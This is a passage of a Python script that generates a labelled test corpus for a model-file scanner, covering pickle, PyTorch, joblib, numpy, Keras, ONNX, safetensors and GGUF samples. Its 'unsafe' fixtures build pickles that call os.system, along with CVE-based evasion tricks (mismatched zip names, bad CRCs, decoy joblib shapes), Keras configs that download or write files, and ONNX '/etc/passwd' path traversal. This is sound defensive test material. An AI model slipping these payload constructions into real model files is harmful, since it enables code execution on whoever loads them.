    for i in range(1, 40):
        body += P.MARK + P.binget(i - 1) * 10 + P.LIST + P.binput(i)
    c.add("ok_memo_laughs.pkl", body + P.STOP, "safe",
          "40 nested lists each holding the previous one 10 times via BINGET (10^40 leaves if expanded)",
          "§2 #26 / fickling FP: resource exhaustion heuristics")
    c.add("ok_huge_memo_index.pkl", P.proto(2) + P.bu("x") + P.long_binput(0xFFFFFFF0) + P.POP
          + P.long_binget(0xFFFFFFF0) + P.STOP, "safe",
          "LONG_BINPUT/LONG_BINGET at index 0xFFFFFFF0: a sparse memo, not a 4-G-entry array", "§2 #26: scanner DoS")

    # PyTorch zip.
    c.add("ok_torch_zip.pt", make_zip(torch_zip(torch_state_dict())), "safe",
          "PyTorch zip checkpoint: archive/data.pkl, archive/data/0..2, archive/version, byteorder", "container: pytorch zip")
    c.add("ok_torch_zip_deflate.pt", make_zip(torch_zip(torch_state_dict(), method=8)), "safe",
          "PyTorch zip with data.pkl deflate-compressed", "container: pytorch zip (deflate)")
    storage_pickle = [{"name": "archive/data/7", "data": SYSTEM + b"\x00" * 64}]
    c.add("ok_torch_zip_storage_pickle_bytes.pt", make_zip(torch_zip(torch_state_dict(), extra=storage_pickle)), "safe",
          "PyTorch zip whose tensor storage archive/data/7 starts with pickle bytes: torch.load reads storages as raw bytes",
          "container: pytorch zip (storage records are not pickles)")
    c.add("ok_torch_legacy.pt", legacy_torch(torch_state_dict(legacy=True)), "safe",
          "legacy (non-zip) torch: magic, protocol 1001, sys info, state dict, storage keys, raw storages",
          "container: pytorch legacy")

    # numpy files.
    c.add("ok_numeric.npy", npy("<f4", (2, 3), b"".join(struct.pack("<f", i) for i in range(6))), "safe",
          ".npy float32 2x3", "container: npy")
    objarr = numpy_object_array(P.bu("a") + P.bu("b") + P.int_(3), 3)
    c.add("ok_object_strings.npy", npy("|O", (3,), objarr), "safe",
          ".npy object array of plain str/int (pickle uses only numpy allowlisted globals)", "container: npy (object)")
    c.add("ok_arrays.npz", make_zip([
        {"name": "w.npy", "data": npy("<f4", (4,), b"\x00" * 16)},
        {"name": "b.npy", "data": npy("<i2", (2,), b"\x01\x00\x02\x00")}]), "safe",
        ".npz with two numeric arrays", "container: npz")

    # joblib streams: after BUILD of each NumpyArrayWrapper, joblib reads the array's bytes from
    # the file (numpy_pickle.NumpyArrayWrapper.read_array), then unpickles on.
    arr = b"".join(struct.pack("<d", i) for i in range(4))
    head = P.proto(4) + P.EMPTY_DICT + P.MARK + P.su("coef_")
    stream = joblib_array(head, "f8", (4,), arr) + P.su("n_features_in_") + P.int_(4) + P.SETITEMS + P.STOP
    c.add("ok_joblib_stream.joblib", stream, "safe",
          "joblib stream: NumpyArrayWrapper (NEWOBJ + BUILD), then padding and raw float64 bytes inside the pickle stream",
          "container: joblib")
    c.add("mal_joblib_stream.joblib", stream[:-2] + P.su("x") + call_expr("os", "system", P.bu("id"))
          + P.SETITEMS + P.STOP, "unsafe",
          "joblib stream with interleaved array bytes, then os.system after the array", "container: joblib")
    # Two arrays sharing one memoized dtype (what joblib writes for two float64 arrays), the
    # second in the pre-0.14 layout without alignment padding; a 0-d array; an int8 matrix.
    two = joblib_array(head, "f8", (4,), arr, dtype_memo=1)
    two = joblib_array(two + P.su("intercept_"), None, (2,), arr[:16], dtype_get=1, aligned=False)
    two = joblib_array(two + P.su("scale_"), "f8", (), arr[:8])
    two = joblib_array(two + P.su("counts_"), "i1", (3, 5), bytes(range(15)))
    c.add("ok_joblib_arrays.joblib", two + P.SETITEMS + P.STOP, "safe",
          "joblib stream: four arrays, a memoized dtype reused by BINGET, one without alignment, a 0-d array",
          "container: joblib")
    # Object arrays are a complete nested pickle at that point (pickle.load on the file).
    names = P.proto(2) + P.glob("numpy.core.multiarray", "_reconstruct") + P.glob("numpy", "ndarray") \
        + P.int_(0) + P.TUPLE1 + P.short_binbytes(b"b") + P.TUPLE3 + P.REDUCE \
        + P.MARK + P.int_(1) + P.int_(2) + P.TUPLE1 + P.glob("numpy", "dtype") + P.short_binstring("O8") \
        + P.FALSE + P.TRUE + P.TUPLE3 + P.REDUCE + P.FALSE + P.EMPTY_LIST + P.MARK + P.bu("age") \
        + P.bu("height") + P.APPENDS + P.TUPLE + P.BUILD + P.STOP
    objects = joblib_array(head.replace(b"coef_", b"names"), "O8", (2,), names)
    c.add("ok_joblib_object_array.joblib", objects + P.SETITEMS + P.STOP, "safe",
          "joblib object array (feature names): a nested pickle of plain strings right after the wrapper",
          "container: joblib")
    evil = P.proto(2) + call_expr("os", "system", P.bu("id")) + P.STOP
    c.add("mal_joblib_object_array.joblib", joblib_array(head, "O8", (1,), evil) + P.SETITEMS + P.STOP,
          "unsafe", "joblib object array whose nested pickle calls os.system", "container: joblib")
    # A decoy 'shape' in a dict nested inside the state: joblib reads the wrapper's own shape (1,),
    # 8 bytes, and then executes os.system; a scanner that took the last 'shape' it saw, (8,),
    # would skip 64 bytes, straight over the call.
    decoy = joblib_array(head, "f8", (1,), arr[:8] + call_expr("os", "system", P.bu("id")) + P.POP,
                         extra_state=P.su("meta") + P.EMPTY_DICT + P.su("shape") + P.int_(8) + P.TUPLE1 + P.SETITEM)
    c.add("mal_joblib_decoy_shape.joblib", decoy + P.bu("x" * 40) + P.POP + P.SETITEMS + P.STOP, "unsafe",
          "joblib wrapper whose state nests a decoy `shape`; os.system sits where the real array ends",
          "container: joblib")
    c.add("sus_joblib_structured_dtype.joblib",
          joblib_array(head, "V24", (1,), b"\0" * 24) + P.SETITEMS + P.STOP, "suspicious",
          "joblib array of a structured dtype (V24, may hold objects): the bytes after it cannot be sized",
          "container: joblib")
    c.add("bad_joblib_array_past_end.joblib", joblib_array(head, "f8", (1 << 40,), arr) + P.SETITEMS + P.STOP,
          "malformed", "joblib array whose shape claims 8 TiB of data in a small file", "container: joblib")

    # safetensors, GGUF, ONNX, Keras, text.
    c.add("ok_model.safetensors", safetensors([("a.weight", "F32", [2, 2], 16), ("b.half", "F16", [3], 6),
                                               ("c.bf16", "BF16", [1], 2), ("d.ids", "I64", [2], 16),
                                               ("e.bytes", "U8", [4], 4), ("f.mask", "BOOL", [2], 2),
                                               ("g.scalar", "F64", [], 8), ("h.empty", "F32", [0, 3], 0)],
                                              metadata={"format": "pt", "note": "corpus"}), "safe",
          "safetensors: F32/F16/BF16/I64/U8/BOOL/F64 scalar/empty tensor, __metadata__", "format: safetensors")
    c.add("ok_model.gguf", gguf(), "safe", "GGUF v3: general.architecture, general.alignment, one F32 tensor 4x2",
          "format: GGUF")
    c.add("ok_model_v2.gguf", gguf(version=2), "safe", "GGUF v2 (u64 counts)", "format: GGUF")
    arr_kv = ("tokenizer.ggml.tokens", 9, u32(8) + u64(3) + gguf_str("a") + gguf_str("b") + gguf_str("c"))
    c.add("ok_model_array_kv.gguf", gguf(kvs=[("general.architecture", 8, gguf_str("llama")), arr_kv,
                                             ("llama.context_length", 4, u32(2048))],
                                         tensors=[("a", [8], GGML_F32, None), ("b", [4, 4], GGML_F16, None)]),
          "safe", "GGUF v3 with a string-array KV and two tensors (F32, F16) at aligned offsets", "format: GGUF")
    c.add("ok_external_data.onnx", onnx_model("weights.bin"), "safe",
          "ONNX ModelProto with an initializer stored externally at 'weights.bin'", "format: ONNX external data")
    c.add("ok_keras_builtins.keras", keras_zip([INPUT, {**DENSE, "config": {**DENSE["config"],
              "kernel_initializer": {"module": "keras.initializers", "class_name": "GlorotUniform", "config": {"seed": None},
                                     "registered_name": None},
              "kernel_regularizer": {"module": "keras.regularizers", "class_name": "L2", "config": {"l2": 0.01},
                                     "registered_name": None},
              "activation": {"module": "keras.activations", "class_name": "function", "config": "gelu",
                             "registered_name": "function"}}}]), "safe",
          "Keras config with built-in initializer, regularizer and activation objects", "container: keras")
    c.add("ok_keras_model.h5", b"\x89HDF\r\n\x1a\n" + b"\x00" * 120 + json.dumps({"class_name": "Sequential", "config": {
              "name": "sequential", "layers": [{"class_name": "Dense", "config": {"name": "d", "units": 4}}]}}).encode()
          + b"\x00" * 64, "safe", "Keras .h5 whose model_config holds only built-in layers", "container: keras (.h5)")
    c.add("ok_sequential.keras", keras_zip([INPUT, DENSE]), "safe", "Keras v3 .keras zip, config.json without Lambda",
          "container: keras")
    c.add("config.json", json.dumps({"architectures": ["BertModel"], "hidden_size": 768,
                                     "num_attention_heads": 12}, indent=2).encode() + b"\n", "safe",
          "a Hugging Face config.json text file", "text")
    c.add("ok_readme.md", b"# Model card\n\ncos\nsystem\nThis model is (c) 2026.\n", "safe",
          "markdown whose lines happen to start with protocol-0 opcode letters (c, (, T)", "text (§2 #24 inverse)")


def malicious_containers(c):
    mal = SYSTEM
    c.add("mal_torch_zip.pt", make_zip(torch_zip(torch_state_dict(payload=call_expr("os", "system", P.bu("id"))))),
          "unsafe", "PyTorch zip whose data.pkl calls os.system inside the state dict", "container: pytorch zip")
    c.add("mal_torch_zip_deflate.pt", make_zip(torch_zip(mal, method=8)), "unsafe",
          "PyTorch zip with a deflate-compressed malicious data.pkl", "container: pytorch zip (deflate)")
    c.add("mal_torch_zip_nonpkl_member.pt", make_zip(torch_zip(torch_state_dict(),
                                                               extra=[{"name": "archive/extra/state", "data": mal}])),
          "unsafe", "benign data.pkl, malicious pickle under the member name archive/extra/state",
          "§2 #9: GHSA-769v-p64c-89pr (member not named .pkl)")
    c.add("mal_zip_member_named_txt.zip", make_zip([{"name": "notes.txt", "data": call("os", "system", proto=0)}]),
          "unsafe", "generic zip with a protocol-0 pickle member named notes.txt", "§2 #9")
    c.add("mal_torch_zip_duplicate_names.pt", make_zip(torch_zip(torch_state_dict(),
                                                                 extra=[{"name": "archive/data.pkl", "data": mal}])),
          "unsafe", "two members named archive/data.pkl: first benign, second malicious (loaders disagree which wins)",
          "container: duplicate member names")
    c.add("mal_zip_local_name_mismatch.pt", make_zip(torch_zip(mal, local_name="archive/innocent.txt")), "unsafe",
          "malicious data.pkl whose local header names 'archive/innocent.txt' while the central directory says data.pkl",
          "§2 #10: CVE-2025-1944")
    for flag, what in ((0x1, "encrypted"), (0x20, "patched data"), (0x40, "strong encryption")):
        c.add(f"mal_zip_flag_{flag:#04x}.pt", make_zip(torch_zip(mal, flags=flag)), "unsafe",
              f"general-purpose flag {flag:#x} ({what}) set on a plain malicious data.pkl", "§2 #11: CVE-2025-1945")
    c.add("mal_zip_bad_crc.pt", make_zip(torch_zip(mal, crc=0xDEADBEEF)), "unsafe",
          "malicious data.pkl with a wrong CRC-32 (torch does not check it)", "§2 #13: CVE-2025-10156")
    c.add("mal_torch_zip_payload_txt.pt", make_zip(torch_zip(torch_state_dict(), extra=[
              {"name": "archive/payload.txt", "data": b"cos\nsystem\n(S'echo pwned'\ntR#junk"}])), "unsafe",
          "benign data.pkl; a protocol-0 payload with a printable tail stored as archive/payload.txt",
          "§2 #9 / #24: a pickle under a text name, with a tail")
    c.add("mal_zip_data_named_member.zip", make_zip([{"name": "README.md", "data": b"# weights\n"},
                                                      {"name": "model/data/0", "data": call("os", "system", proto=0)}]),
          "unsafe", "generic zip (no data.pkl) whose member model/data/0 is a protocol-0 payload: named like tensor data, not a storage",
          "§2 #9: member names decide nothing")
    inner = make_zip(torch_zip(mal))
    c.add("mal_zip_in_zip.zip", make_zip([{"name": "readme.txt", "data": b"hello\n"},
                                           {"name": "model/checkpoint.pt", "data": inner}]), "unsafe",
          "a zip holding a malicious torch zip", "container: nested zip")
    c.add("mal_torch_legacy.pt", legacy_torch(torch_state_dict(legacy=True, payload=call_expr("os", "system", P.bu("id")))),
          "unsafe", "legacy torch whose main pickle calls os.system", "container: pytorch legacy")
    c.add("mal_torch_legacy_keys_pickle.pt", legacy_torch(torch_state_dict(legacy=True), keys_pickle=mal), "unsafe",
          "legacy torch whose storage-key pickle (5th) is the payload (modelscan scans only the next pickle)",
          "§2 #24 / legacy torch")
    mal_obj = numpy_object_array(call_expr("os", "system", P.bu("id")), 1)
    c.add("mal_object.npy", npy("|O", (1,), mal_obj), "unsafe", ".npy object array whose pickle calls os.system",
          "container: npy (object)")
    c.add("mal_object_raw_payload.npy", npy("|O", (1,), SYSTEM), "unsafe",
          ".npy object dtype whose data section is a bare os.system pickle", "container: npy (object)")
    c.add("mal_object.npz", make_zip([{"name": "w.npy", "data": npy("<f4", (4,), b"\x00" * 16)},
                                       {"name": "obj.npy", "data": npy("|O", (1,), mal_obj)}]), "unsafe",
          ".npz whose second array is an object array with a malicious pickle", "container: npz")
    c.add("mal_lambda.keras", keras_zip([INPUT, LAMBDA, DENSE]), "unsafe",
          "Keras v3 .keras zip whose config.json has a Lambda layer (marshalled bytecode)", "container: keras (Lambda)")
    def keras_fn(module, name):
        return {"module": module, "class_name": "function", "config": name, "registered_name": "function"}
    dense_with = lambda activation: {**DENSE, "config": {**DENSE["config"], "activation": activation}}
    c.add("mal_keras_get_file.keras", keras_zip([INPUT, dense_with(keras_fn("keras.src.utils.file_utils", "get_file"))]),
          "unsafe", "Keras config whose activation is keras.src.utils.file_utils.get_file (downloads and extracts files)",
          "container: keras (CVE-2025-8747: keras.* names were trusted wholesale)")
    c.add("mal_keras_tf_write_file.keras", keras_zip([INPUT, dense_with(keras_fn("tensorflow.io", "write_file"))]),
          "unsafe", "Keras config whose activation is tensorflow.io.write_file", "container: keras (tensorflow.* trusted wholesale)")
    c.add("mal_keras_load_model.keras", keras_zip([INPUT, dense_with(keras_fn("keras.models", "load_model"))]),
          "unsafe", "Keras config that calls keras.models.load_model (a nested load, with safe_mode=False in the CVE-2025-9906 chain)",
          "container: keras (CVE-2025-9906)")
    c.add("mal_keras_tfoplambda_write_file.keras", keras_zip([INPUT, {"class_name": "TFOpLambda", "config": {
              "name": "w", "function": "io.write_file", "trainable": False}}]), "unsafe",
          "tf.keras TFOpLambda layer calling tf.io.write_file when the model runs", "container: keras (TFOpLambda)")
    def h5_model(layers):
        """A Keras .h5 file as far as the scanner reads it: the HDF5 signature, then the model_config
        attribute's JSON string among other bytes (modelpin has no HDF5 parser)."""
        config = {"class_name": "Sequential", "config": {"name": "sequential", "layers": layers}}
        return b"\x89HDF\r\n\x1a\n" + b"\x00" * 120 + json.dumps(config).encode() + b"\x00" * 64 + bytes(range(256))
    c.add("mal_keras_tfoplambda_write_file.h5", h5_model([{"class_name": "InputLayer", "config": {"name": "in"}},
                                                           {"class_name": "TFOpLambda", "config": {
                                                               "name": "w", "function": "io.write_file"}}]), "unsafe",
          "tf.keras .h5 whose model_config has a TFOpLambda layer calling tf.io.write_file", "container: keras (.h5 TFOpLambda)")
    c.add("mal_external_data_traversal.onnx", onnx_model("../../etc/passwd"), "unsafe",
          "ONNX external_data location '../../etc/passwd'", "format: ONNX external data (CVE-2024-27318)")
    c.add("mal_external_data_absolute.onnx", onnx_model("/etc/passwd"), "unsafe",
          "ONNX external_data location is an absolute path", "format: ONNX external data (onnx PR #7686)")


def malformed(c):
    c.add("bad_empty.bin", b"", "malformed", "zero-length file", "malformed")
    good = torch_state_dict()
    c.add("bad_truncated.pkl", good[: len(good) // 2], "malformed", "benign state-dict pickle cut in half", "malformed pickle")
    c.add("bad_unknown_opcode.pkl", P.proto(2) + P.EMPTY_DICT + b"\xfb" + P.STOP, "malformed",
          "opcode byte 0xfb is not a pickle opcode", "malformed pickle")
    c.add("bad_binget_unset.pkl", P.proto(2) + P.binget(7) + P.STOP, "malformed",
          "BINGET of a memo index never set", "§2 #7 (without payload)")
    c.add("bad_stop_empty_stack.pkl", P.proto(2) + P.STOP, "malformed", "STOP with an empty stack", "malformed pickle")
    c.add("bad_deep_marks.pkl", P.proto(2) + P.MARK * 1_000_000 + P.STOP, "malformed",
          "a million nested MARKs, then STOP on an empty stack (recursion / memory DoS)", "§2 #26: scanner DoS")
    c.add("bad_stack_global_int.pkl", P.proto(4) + P.int_(1) + P.int_(2) + P.STACK_GLOBAL + P.STOP, "malformed",
          "STACK_GLOBAL on two ints (not str)", "malformed pickle")
    c.add("bad_safetensors_header_2p63.safetensors", u64(1 << 63) + b'{"a":1}', "malformed",
          "safetensors header length 2^63", "safetensors HeaderTooLarge")
    c.add("bad_safetensors_header_past_end.safetensors", u64(4096) + b'{"x":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}',
          "malformed", "safetensors header length beyond the file", "safetensors InvalidHeaderLength")
    c.add("bad_safetensors_overlap.safetensors", safetensors(None, header_obj={
        "a": {"dtype": "U8", "shape": [8], "data_offsets": [0, 8]},
        "b": {"dtype": "U8", "shape": [8], "data_offsets": [4, 12]}}), "malformed",
        "safetensors tensors overlapping ([0,8) and [4,12))", "safetensors InvalidOffset")
    c.add("bad_safetensors_gap.safetensors", safetensors(None, header_obj={
        "a": {"dtype": "U8", "shape": [4], "data_offsets": [0, 4]},
        "b": {"dtype": "U8", "shape": [4], "data_offsets": [8, 12]}}), "malformed",
        "safetensors gap between tensors ([0,4) then [8,12))", "safetensors InvalidOffset")
    c.add("bad_safetensors_size.safetensors", safetensors(None, header_obj={
        "a": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 12]}}), "malformed",
        "safetensors F32[2,2] needs 16 bytes, offsets give 12", "safetensors dtype x shape")
    c.add("bad_safetensors_overflow.safetensors", safetensors(None, header_obj={
        "a": {"dtype": "F64", "shape": [2**62, 2**62], "data_offsets": [0, 8]}}), "malformed",
        "safetensors shape product overflows 64 bits", "safetensors ValidationOverflow")
    c.add("bad_safetensors_trailing.safetensors", safetensors([("a", "U8", [4], 4)], data=b"\x00" * 12), "malformed",
          "safetensors with bytes after the last tensor", "safetensors MetadataIncompleteBuffer")
    c.add("bad_safetensors_dup_key.safetensors", safetensors(None, raw_header=(
        b'{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]},"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}}'),
        data=b"\x00" * 4), "malformed", "safetensors header with a duplicate key", "safetensors parser differential")
    c.add("bad_safetensors_meta_nonstring.safetensors", safetensors([("a", "U8", [2], 2)], metadata={"n": 1}), "malformed",
          "safetensors __metadata__ value that is not a string", "safetensors schema")
    c.add("bad_safetensors_dtype.safetensors", safetensors([("a", "Q7", [2], 2)]), "malformed",
          "safetensors unknown dtype Q7", "safetensors schema")
    c.add("bad_safetensors_not_json.safetensors", safetensors(None, raw_header=b"{not json at all}"), "malformed",
          "safetensors header is not JSON", "safetensors schema")
    c.add("bad_gguf_tensor_count.gguf", gguf(tensor_count=1 << 60), "malformed",
          "GGUF tensor_count 2^60", "GGUF: bound counts by file size")
    c.add("bad_gguf_kv_count.gguf", gguf(kv_count=(1 << 64) - 1), "malformed", "GGUF kv_count 2^64-1", "GGUF")
    c.add("bad_gguf_string_len.gguf", b"GGUF" + u32(3) + u64(0) + u64(1) + u64(1 << 62) + b"general.name", "malformed",
          "GGUF KV key length 2^62", "GGUF: lengths checked against the remaining bytes")
    c.add("bad_gguf_value_type.gguf", gguf(kvs=[("general.x", 99, u32(1))]), "malformed", "GGUF KV value type 99", "GGUF")
    c.add("bad_gguf_ndims.gguf", gguf(tensors=[("t", [1] * 9, GGML_F32, 0)]), "malformed", "GGUF tensor with 9 dims", "GGUF")
    c.add("bad_gguf_ggml_type.gguf", gguf(tensors=[("t", [4], 250, 0)]), "malformed", "GGUF unknown ggml type 250", "GGUF")
    c.add("bad_gguf_data_past_end.gguf", gguf(truncate_data=8), "malformed", "GGUF tensor data extends past the end", "GGUF")
    c.add("bad_gguf_misaligned.gguf", gguf(tensors=[("t", [4], GGML_F32, 4)], data_override=b"\x00" * 32), "malformed",
          "GGUF tensor offset 4 not a multiple of the alignment 32", "GGUF")
    c.add("bad_gguf_version.gguf", gguf(version=99), "malformed", "GGUF version 99", "GGUF")
    good_zip = make_zip(torch_zip(torch_state_dict()))
    c.add("bad_zip_entry_past_end.pt", make_zip(torch_zip(torch_state_dict()),
                                                central_extra=[("archive/data/9", 10_000_000, 64)]), "malformed",
          "central directory entry whose local header offset is past the end of the file", "container: zip entry past the end")
    c.add("bad_zip_truncated.pt", good_zip[: len(good_zip) - 30], "malformed",
          "torch zip cut inside its central directory", "container: zip")
    entries = torch_zip(torch_state_dict())
    c.add("bad_zip_overlapping.pt", make_zip(entries + [{"name": "archive/data/7", "data": b"", "skip_local": True,
                                                        "local_offset": 0, "crc": 0}]), "malformed",
          "two central directory entries pointing at the same local header (overlapping entries)", "container: zip overlap")
    c.add("bad_zip_name_mismatch_benign.pt", make_zip(torch_zip(torch_state_dict(), local_name="archive/other.pkl")),
          "malformed", "benign data.pkl but local header name differs from the central directory (inconsistent archive)",
          "§2 #10 (anomaly without payload)")
    c.add("bad_zip_bad_crc_benign.pt", make_zip(torch_zip(torch_state_dict(), crc=0xDEADBEEF)), "malformed",
          "benign data.pkl with a wrong CRC-32: Python's zipfile refuses it, PyTorch reads it unchecked",
          "§2 #13: CVE-2025-10156 (anomaly without payload)")
    c.add("bad_zip_case_duplicate.pt", make_zip(torch_zip(torch_state_dict(), extra=[
              {"name": "archive/DATA.PKL", "data": torch_state_dict()}])), "malformed",
          "archive/data.pkl and archive/DATA.PKL: one record to PyTorch's case-insensitive lookup (miniz), two to zipfile",
          "container: zip names that differ only in case")
    c.add("bad_zip_deflate_corrupt.pt", make_zip(torch_zip(torch_state_dict(), method=8))
          .replace(deflate(torch_state_dict())[:16], b"\xff" * 16, 1), "malformed",
          "deflate stream of data.pkl corrupted", "container: zip (deflate)")
    c.add("bad_legacy_truncated.pt", legacy_torch(torch_state_dict(legacy=True))[:200], "malformed",
          "legacy torch file cut inside the main pickle", "container: pytorch legacy")
    c.add("bad_npy_header.npy", b"\x93NUMPY\x01\x00" + u16(60000) + b"{'descr'", "malformed",
          ".npy header length past the end", "container: npy")
    c.add("bad_npy_short_data.npy", npy("<f4", (100,), b"\x00" * 16), "malformed", ".npy data shorter than shape x dtype",
          "container: npy")
    c.add("bad_keras_config.keras", make_zip([{"name": "metadata.json", "data": b"{}"},
                                               {"name": "config.json", "data": b"{\"class_name\": "}]), "malformed",
          ".keras zip whose config.json is not valid JSON", "container: keras")


# ---------------------------------------------------------------------------------------------
# Chat templates, configs that instantiate code, TensorFlow graphs, unrecognised content


# Benign chat templates, written from the published shapes of each family (not copied files).
LLAMA3_TEMPLATE = (
    "{% set loop_messages = messages %}{% for message in loop_messages %}"
    "{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\n\n'+ message['content'] | trim + '<|eot_id|>' %}"
    "{% if loop.index0 == 0 %}{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\n\n' }}{% endif %}")
LLAMA31_TOOLS_TEMPLATE = """{{- bos_token }}
{%- if custom_tools is defined %}{%- set tools = custom_tools %}{%- endif %}
{%- if not tools_in_user_message is defined %}{%- set tools_in_user_message = true %}{%- endif %}
{%- if not date_string is defined %}{%- set date_string = "26 Jul 2024" %}{%- endif %}
{%- if messages[0]['role'] == 'system' %}
    {%- set system_message = messages[0]['content']|trim %}
    {%- set messages = messages[1:] %}
{%- else %}{%- set system_message = "" %}{%- endif %}
{{- "<|start_header_id|>system<|end_header_id|>\\n\\n" }}
{%- if builtin_tools is defined or tools is not none %}{{- "Environment: ipython\\n" }}{%- endif %}
{%- if builtin_tools is defined %}{{- "Tools: " + builtin_tools | reject('equalto', 'code_interpreter') | join(", ") + "\\n\\n"}}{%- endif %}
{{- "Cutting Knowledge Date: December 2023\\n" }}{{- "Today Date: " + date_string + "\\n\\n" }}
{{- system_message }}{{- "<|eot_id|>" }}
{%- for message in messages %}
    {%- if not (message.role == 'ipython' or message.role == 'tool' or 'tool_calls' in message) %}
        {{- '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'+ message['content'] | trim + '<|eot_id|>' }}
    {%- elif 'tool_calls' in message %}
        {%- if not message.tool_calls|length == 1 %}{{- raise_exception("This model only supports single tool-calls at once!") }}{%- endif %}
        {%- set tool_call = message.tool_calls[0].function %}
        {{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' -}}
        {{- '{"name": "' + tool_call.name + '", ' }}{{- '"parameters": ' }}{{- tool_call.arguments | tojson }}{{- "}" }}
        {{- "<|eot_id|>" }}
    {%- elif message.role == "tool" or message.role == "ipython" %}
        {{- "<|start_header_id|>ipython<|end_header_id|>\\n\\n" }}
        {%- if message.content is mapping or message.content is iterable %}{{- message.content | tojson }}{%- else %}{{- message.content }}{%- endif %}
        {{- "<|eot_id|>" }}
    {%- endif %}
{%- endfor %}
{%- if add_generation_prompt %}{{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{%- endif %}"""
QWEN2_TEMPLATE = (
    "{% for message in messages %}{% if loop.first and messages[0]['role'] != 'system' %}"
    "{{ '<|im_start|>system\nYou are a helpful assistant.<|im_end|>\n' }}{% endif %}"
    "{{'<|im_start|>' + message['role'] + '\n' + message['content'] + '<|im_end|>' + '\n'}}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}")
QWEN3_TEMPLATE = """{%- set ns = namespace(multi_step_tool=true, last_query_index=messages|length - 1) %}
{%- for message in messages[::-1] %}
    {%- set index = (messages|length - 1) - loop.index0 %}
    {%- if ns.multi_step_tool and message.role == "user" and not(message.content.startswith('<tool_response>') and message.content.endswith('</tool_response>')) %}
        {%- set ns.multi_step_tool = false %}{%- set ns.last_query_index = index %}
    {%- endif %}
{%- endfor %}
{%- for message in messages %}
    {%- if message.role == "assistant" %}
        {%- set content = message.content %}
        {%- if '</think>' in content %}
            {%- set reasoning_content = content.split('</think>')[0].rstrip('\\n').split('<think>')[-1].lstrip('\\n') %}
            {%- set content = content.split('</think>')[-1].lstrip('\\n') %}
        {%- endif %}
        {{- '<|im_start|>' + message.role + '\\n' + content }}
        {%- for tool_call in message.tool_calls %}
            {%- if tool_call.function %}{%- set tool_call = tool_call.function %}{%- endif %}
            {{- '<tool_call>\\n{"name": "' }}{{- tool_call.name }}{{- '", "arguments": ' }}{{- tool_call.arguments | tojson }}{{- '}\\n</tool_call>' }}
        {%- endfor %}
        {{- '<|im_end|>\\n' }}
    {%- elif message.role == "tool" %}
        {%- if loop.first or (messages[loop.index0 - 1].role != "tool") %}{{- '<|im_start|>user' }}{%- endif %}
        {{- '\\n<tool_response>\\n' }}{{- message.content }}{{- '\\n</tool_response>' }}
    {%- else %}
        {{- '<|im_start|>' + message.role + '\\n' + message.content + '<|im_end|>' + '\\n' }}
    {%- endif %}
{%- endfor %}
{%- if add_generation_prompt %}{{- '<|im_start|>assistant\\n' }}{%- endif %}"""
GEMMA_TEMPLATE = (
    "{{ bos_token }}{% if messages[0]['role'] == 'system' %}{{ raise_exception('System role not supported') }}{% endif %}"
    "{% for message in messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}"
    "{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}"
    "{% if (message['role'] == 'assistant') %}{% set role = 'model' %}{% else %}{% set role = message['role'] %}{% endif %}"
    "{{ '<start_of_turn>' + role + '\n' + message['content'] | trim + '<end_of_turn>\n' }}{% endfor %}"
    "{% if add_generation_prompt %}{{'<start_of_turn>model\n'}}{% endif %}")
GEMMA3_TEMPLATE = """{{ bos_token }}
{%- if messages[0]['role'] == 'system' -%}
    {%- if messages[0]['content'] is string -%}{%- set first_user_prefix = messages[0]['content'] + '\\n\\n' -%}
    {%- else -%}{%- set first_user_prefix = messages[0]['content'][0]['text'] + '\\n\\n' -%}{%- endif -%}
    {%- set loop_messages = messages[1:] -%}
{%- else -%}{%- set first_user_prefix = "" -%}{%- set loop_messages = messages -%}{%- endif -%}
{%- for message in loop_messages -%}
    {%- if (message['role'] == 'assistant') -%}{%- set role = "model" -%}{%- else -%}{%- set role = message['role'] -%}{%- endif -%}
    {{ '<start_of_turn>' + role + '\\n' + (first_user_prefix if loop.first else "") }}
    {%- if message['content'] is string -%}{{ message['content'] | trim }}
    {%- elif message['content'] is iterable -%}
        {%- for item in message['content'] -%}
            {%- if item['type'] == 'image' -%}{{ '<start_of_image>' }}{%- elif item['type'] == 'text' -%}{{ item['text'] | trim }}{%- endif -%}
        {%- endfor -%}
    {%- else -%}{{ raise_exception("Invalid content type") }}{%- endif -%}
    {{ '<end_of_turn>\\n' }}
{%- endfor -%}
{%- if add_generation_prompt -%}{{'<start_of_turn>model\\n'}}{%- endif -%}"""
MISTRAL_TEMPLATE = (
    "{{ bos_token }}{% for message in messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}"
    "{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}"
    "{% if message['role'] == 'user' %}{{ '[INST] ' + message['content'] + ' [/INST]' }}"
    "{% elif message['role'] == 'assistant' %}{{ message['content'] + eos_token}}"
    "{% else %}{{ raise_exception('Only user and assistant roles are supported!') }}{% endif %}{% endfor %}")
MISTRAL_TOOLS_TEMPLATE = """{%- if messages[0]["role"] == "system" %}{%- set system_message = messages[0]["content"] %}{%- set loop_messages = messages[1:] %}
{%- else %}{%- set loop_messages = messages %}{%- endif %}
{%- set user_messages = loop_messages | selectattr("role", "equalto", "user") | list %}
{%- set ns = namespace() %}{%- set ns.index = 0 %}
{%- for message in loop_messages %}
    {%- if not (message.role == "tool" or message.role == "tool_results" or (message.tool_calls is defined and message.tool_calls is not none)) %}
        {%- if (message["role"] == "user") != (ns.index % 2 == 0) %}{{- raise_exception("After the optional system message, conversation roles must alternate user/assistant/user/assistant/...") }}{%- endif %}
        {%- set ns.index = ns.index + 1 %}
    {%- endif %}
{%- endfor %}
{{- bos_token }}
{%- for message in loop_messages %}
    {%- if message["role"] == "user" %}
        {%- if tools is not none and (message == user_messages[-1]) %}
            {{- "[AVAILABLE_TOOLS] [" }}
